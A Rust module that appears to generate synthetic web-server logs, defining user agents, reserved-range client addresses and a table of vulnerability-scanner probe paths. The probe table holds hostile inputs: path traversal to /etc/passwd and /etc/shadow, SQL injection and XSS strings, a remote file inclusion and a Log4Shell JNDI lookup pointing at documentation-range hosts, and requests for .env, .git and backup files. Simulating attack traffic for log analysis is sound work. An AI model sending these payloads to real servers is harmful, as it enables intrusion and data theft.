//! Who requests: user agents and addresses, and what scanners look for.

use std::net::Ipv4Addr;

use super::random::scramble;

/// What a vulnerability scanner asks for; each becomes a family of paths by its number.
pub(super) const PROBES: [(&str, &str); 24] = [
    ("/.env.", ""),
    ("/.git/objects/", ""),
    ("/wp-admin/setup-config.php?step=", ""),
    ("/wp-content/plugins/plugin-", "/readme.txt"),
    ("/phpmyadmin", "/index.php"),
    ("/admin", "/login.php"),
    ("/cgi-bin/test-", ".cgi"),
    ("/../../../../etc/passwd?", ""),
    ("/..%2f..%2f..%2fetc%2fshadow?", ""),
    ("/static/..%5c..%5cwindows%5cwin.ini?", ""),
    ("/index.php?id=", "%27%20OR%20%271%27=%271"),
    ("/item?id=", "'+OR+1=1--"),
    ("/search?q=1%20UNION%20SELECT%20NULL,", "--"),
    ("/search?q=%3Cscript%3Ealert(", ")%3C/script%3E"),
    ("/index.php?page=http://203.0.113.", "/shell.txt"),
    ("/backup-", ".zip"),
    ("/db-", ".sql"),
    ("/old", "/config.php.bak"),
    ("/vendor/phpunit/src/Util/PHP/eval-stdin.php?", ""),
    ("/solr/admin/info/system?wt=json&_=", ""),
    ("/actuator/heapdump?", ""),
    ("/server-status?refresh=", ""),
    ("/?x=${jndi:ldap://203.0.113.", "/a}"),
    ("/api/v", "/../../secrets.json"),
];

/// User agents, by group; a site draws from a group, a request carries the index.
pub(super) const AGENTS: [&str; 26] = [
    // 0–9: browsers
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36 Edg/144.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.2 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.2 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:147.0) Gecko/20100101 Firefox/147.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:147.0) Gecko/20100101 Firefox/147.0",
    "Mozilla/5.0 (iPad; CPU OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.2 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/29.0 Chrome/136.0.0.0 Mobile Safari/537.36",
    // 10–14: programs
    "okhttp/4.12.0",
    "CompanionApp/5.2.1 (iOS 18.7; iPhone)",
    "CompanionApp/5.2.0 (Android 15)",
    "Go-http-client/2.0",
    "axios/1.7.9",
    // 15–18: crawlers
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    // 19: the monitor; 20–21: feed readers
    "Uptime-Check/1.4",
    "Feedly/1.0 (+http://www.feedly.com/fetcher.html; like FeedFetcher-Google)",
    "NetNewsWire (RSS Reader; https://netnewswire.com/)",
    // 22–25: tools of attackers
    "python-requests/2.32.3",
    "curl/8.11.1",
    "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)",
];
/// The first agent and the number of agents of each group in [`AGENTS`].
pub(super) const BROWSERS: (u8, u8) = (0, 10);
pub(super) const PROGRAMS: (u8, u8) = (10, 5);
pub(super) const CRAWLERS: (u8, u8) = (15, 4);
pub(super) const MONITOR: u8 = 19;
pub(super) const FEED_READERS: (u8, u8) = (20, 2);
pub(super) const SCRIPT: u8 = 22;
pub(super) const OLD_BROWSER: u8 = 24;
pub(super) const SCANNER: u8 = 25;

/// The address of a client.
///
/// Every address lies in a range that is never routed on the internet (RFC 6598 shared space for
/// visitors, RFC 2544 and RFC 5737 for machines, RFC 3849 for IPv6), so that no label accuses a
/// real host.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub(super) enum Address {
    V4(u32),
    /// Network and host inside `2001:db8::/32`, scrambled.
    V6(u64),
}

impl Address {
    /// The address of a visitor, a quarter of them IPv6.
    pub(super) const fn of_visitor(visitor: u64) -> Self {
        let bits = scramble(visitor);
        if bits >> 62 == 0 {
            Self::V6(bits)
        } else {
            Self::V4(0x6440_0000 | (bits as u32 & 0x003f_ffff))
        }
    }

    /// A member of a botnet, in 198.18.0.0/15.
    pub(super) const fn of_bot(botnet: u64, member: u64) -> Self {
        Self::V4(0xc612_0000 | (scramble(botnet ^ (member << 40)) as u32 & 0x0001_ffff))
    }

    /// A crawler or monitor, in 192.0.2.0/24.
    pub(super) const fn of_machine(host: u32) -> Self {
        Self::V4(0xc000_0200 | (host & 0xff))
    }

    /// An attacker with one address or network, in 203.0.113.0/24 or 198.51.100.0/24.
    pub(super) const fn of_attacker(bits: u64) -> Ipv4Addr {
        let network = if bits & 0x100 == 0 {
            0xcb00_7100
        } else {
            0xc633_6400
        };
        Ipv4Addr::from_bits(network | (bits as u32 & 0xff))
    }
}
